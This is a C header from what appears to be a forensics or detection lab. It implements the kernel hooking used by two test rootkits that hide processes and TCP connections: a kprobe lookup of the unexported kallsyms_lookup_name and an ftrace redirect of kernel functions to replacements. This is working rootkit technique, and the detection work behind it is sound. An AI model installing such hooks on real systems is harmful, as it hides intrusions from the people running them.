/* SPDX-License-Identifier: GPL-2.0 */
/* The hook both test rootkits use (hide_pid, hide_tcp), the way public kernel rootkits do it:
 * kallsyms_lookup_name's address from a kprobe on it (it is not exported since Linux 5.7), then
 * an ftrace_ops with IPMODIFY on the target that sends every call to a replacement, unless the
 * call comes from the module itself (the replacement's own call of the real function).
 * lab.sh copies this header into each module's build directory. */
#ifndef IRSNAP_LAB_FTRACE_REDIRECT_H
#define IRSNAP_LAB_FTRACE_REDIRECT_H

#include <linux/ftrace.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/module.h>

struct ftrace_redirect {
    struct ftrace_ops ops;
    void* replacement;
};

static unsigned long lookup_name(const char* name) {
    typedef unsigned long (*kallsyms_fn)(const char*);
    struct kprobe kp = {.symbol_name = "kallsyms_lookup_name"};
    kallsyms_fn kallsyms_lookup;

    if (register_kprobe(&kp) < 0) return 0;
    kallsyms_lookup = (kallsyms_fn)kp.addr;
    unregister_kprobe(&kp);
    return kallsyms_lookup ? kallsyms_lookup(name) : 0;
}

static void notrace ftrace_redirect_thunk(unsigned long ip, unsigned long parent_ip,
                                          struct ftrace_ops* ops, struct ftrace_regs* fregs) {
    struct ftrace_redirect* r = container_of(ops, struct ftrace_redirect, ops);
    struct pt_regs* regs = ftrace_get_regs(fregs);

    if (regs && !within_module(parent_ip, THIS_MODULE)) regs->ip = (unsigned long)r->replacement;
}

#define FTRACE_REDIRECT(name, to)                                                                \
    static struct ftrace_redirect name = {                                                       \
        .ops = {.func = ftrace_redirect_thunk,                                                   \
                .flags =                                                                         \
                    FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY}, \
        .replacement = (to),                                                                     \
    }

/* Hooks `symbol`; returns its address (the real function, for the replacement to call), or 0
 * with the reason in the kernel log and *err. */
static unsigned long ftrace_redirect_install(struct ftrace_redirect* r, const char* symbol,
                                             int* err) {
    unsigned long ip = lookup_name(symbol);

    if (!ip) {
        pr_err("%s: %s not found\n", THIS_MODULE->name, symbol);
        *err = -ENOENT;
        return 0;
    }
    *err = ftrace_set_filter_ip(&r->ops, ip, 0, 0);
    if (*err) {
        pr_err("%s: ftrace_set_filter_ip: %d\n", THIS_MODULE->name, *err);
        return 0;
    }
    *err = register_ftrace_function(&r->ops);
    if (*err) {
        pr_err("%s: register_ftrace_function: %d\n", THIS_MODULE->name, *err);
        ftrace_set_filter_ip(&r->ops, ip, 1, 0);
        return 0;
    }
    return ip;
}

#endif
